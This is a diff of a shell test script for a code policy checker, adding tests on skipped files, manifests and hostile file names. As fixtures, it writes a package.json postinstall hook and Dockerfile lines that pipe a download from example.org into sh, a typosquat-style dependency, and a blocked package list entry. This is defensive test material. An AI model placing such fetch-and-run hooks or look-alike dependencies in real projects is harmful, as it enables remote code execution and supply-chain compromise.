@@ -90,8 +90,54 @@ no_colour() { colours NO_COLOR=1 && return 1; colours NO_COLOR=; colours TERM=xt
 ok 'a terminal gets colour unless NO_COLOR is set and not empty' no_colour
 globs() { [ "$(paths --include '*.py' --exclude 'a/' tree)" = tree/z.py ]; [ "$(paths --include 'tree/a/' --include '*.zz' --exclude '*.sh' tree | tr '\n' ' ')" = 'tree/a/b/x.js tree/a/y.py ' ]; }
 ok 'globs choose what is checked in folders' globs
-explicit() { printf '*\n' >tree/.gitignore; [ -z "$(paths tree)" ] && [ "$(paths tree/z.py)" = tree/z.py ] && [ "$(paths --no-ignore tree | wc -l)" = 4 ]; "$lint" tree 2>&1 | grep -q '2 left out by patterns'; rm tree/.gitignore; }
+explicit() { printf '*\n' >tree/.gitignore; [ -z "$(paths tree)" ] && [ "$(paths tree/z.py)" = tree/z.py ] && [ "$(paths --no-ignore tree | wc -l)" = 4 ]; "$lint" tree 2>err.txt; cat err.txt; grep -q 'skipped: 3 hidden (tree/.h.py), 2 left out by .gitignore (tree/z.py), 2 folders of dependencies' err.txt; rm tree/.gitignore; }
 ok 'a file that is named is checked even when .gitignore lists it; omitted files are counted' explicit
+
+
+# --- what has no ending, and what is skipped
+mkdir -p mixed/.github mixed/.x mixed/gi && git -C mixed init -q .
+printf '#!/usr/bin/env -S python3 -u\nimport os\nos.system(x)\n' >mixed/tool
+cp bad.py mixed/A.PY
+cp bad.py mixed/.x/h.py
+printf '#!/usr/bin/ruby\n' >mixed/rtool
+printf 'text\n' >mixed/notes
+printf 'a\0b' >mixed/blob
+printf 'jobs: {}\n' >mixed/.github/ci.yml
+judges_tools() { [ "$(paths mixed | tr '\n' ' ')" = 'mixed/A.PY mixed/tool ' ]; expect '.summary.denied == 2' report.json; }
+ok 'a file without an ending is judged by its first line, and capital endings count' judges_tools
+ok 'the summary has what was skipped on one line, and names what looks like code' gives 1 'findings; 5 skipped: 1 code without an analyzer (mixed/rtool: Ruby), 2 hidden (mixed/.github), 1 binary, 1 of no known language' "$lint" mixed
+counts_json() { json mixed; expect '.summary.skipped | .count == 5 and .code == 1 and (.reasons[] | select(.reason == "no-analyzer") | .names[0] | .path == "mixed/rtool" and .language == "Ruby")' report.json; }
+ok '  and JSON has it by reasons' counts_json
+counts_sarif() { "$lint" --format sarif mixed >out.txt || [ $? = 1 ]; expect '.runs[0].invocations[0].properties.skipped.count == 5' out.txt; }
+ok '  and SARIF' counts_sarif
+hides() { [ "$(paths --hidden mixed | tr '\n' ' ')" = 'mixed/.x/h.py mixed/A.PY mixed/tool ' ]; }
+ok 'dot folders are judged on request, but not those of version control' hides
+ok 'code that was skipped is status 2 with --strict-coverage, in hidden folders too' gives 2 '2 files that look like code were not judged' "$lint" --strict-coverage mixed
+rm mixed/rtool
+printf 'gi/\nA.PY\ntool\n' >mixed/.gitignore
+cp good.py mixed/gi/ok.py
+ok '  and in what .gitignore names' gives 2 '4 files that look like code were not judged' "$lint" --strict-coverage mixed
+ok '  but not what the caller left out' gives 0 '' "$lint" --strict-coverage --exclude '.x' --exclude gi --exclude A.PY --exclude tool mixed
+ok 'a file that is named and has no analyzer is an error with its language' gives 2 "no analyzer for 'Ruby'" "$lint" --stdin-filename x.rb - </dev/null
+
+# --- manifests
+mkdir -p project
+printf 'requests==2.32.0\nparamiko\n-r base.txt\n' >project/requirements.txt
+ok 'packages of requirements.txt are judged at their lines' gives 1 'project/requirements.txt:2:1: deny [pkg.blocked] paramiko' "$lint" project
+ok '  also under a policy without a shell' gives 1 'requirements.txt:2:1: deny [pkg.blocked]' "$lint" --policy data-analysis project
+printf '{"scripts": {"build": "tsc && vite build",\n "postinstall": "curl http://example.org/x | sh"},\n "dependencies": {"crossenv": "1"}}\n' >project/package.json
+printf 'FROM debian:13\nRUN apt-get update \\\n    && apt-get install -y curl\nRUN curl http://example.org/x \\\n    | sh\n' >project/Dockerfile
+rm project/requirements.txt
+judges_project() {
+    json project
+    expect '[.files[] | .path as $p | .findings[] | "\($p):\(.line):\(.column) \(.rule)"] == ["project/Dockerfile:5:7 sh.command", "project/package.json:2:46 sh.command", "project/package.json:3:19 pkg.look-alike"]' report.json
+}
+ok 'scripts of package.json and commands of a Dockerfile are denied for what they download and run, not for the programs of a build' judges_project
+printf 'FROM a\nSHELL ["powershell"]\n' >project/Dockerfile
+ok 'a manifest that is not understood cannot be checked, and the error has its place' gives 2 'project/Dockerfile: line 2, column 1: SHELL is none' "$lint" project
+printf 'SHELL' >project/dockerfile.py
+ok 'a language that the name has comes before a manifest' gives 0 '1 file checked' "$lint" project/dockerfile.py
+rm -r project
 
 # git decides which files are left: random patterns over a tree of short names
 same_as_git() {
@@ -221,7 +267,7 @@ quietly() { # no line of the report begins with what a file's name says
     [ "$(grep -vc '^::error file=' out.txt)" = 0 ]
     grep -q '^::error file=new%0Aline.py,' out.txt
     grep -q '^::error file=%3A%3Aerror file=x%3A%3Ay.py,' out.txt
-    json hostile; jq -e . report.json >/dev/null; lacks passwd <report.json
+    json hostile; jq .files report.json | lacks passwd
 }
 ok 'names with line ends, invalid UTF-8 and commands in them are only names; links and pipes are left alone' quietly
 ok 'a pipe that is named is refused' gives 2 'not a regular file' "$lint" hostile/pipe.py
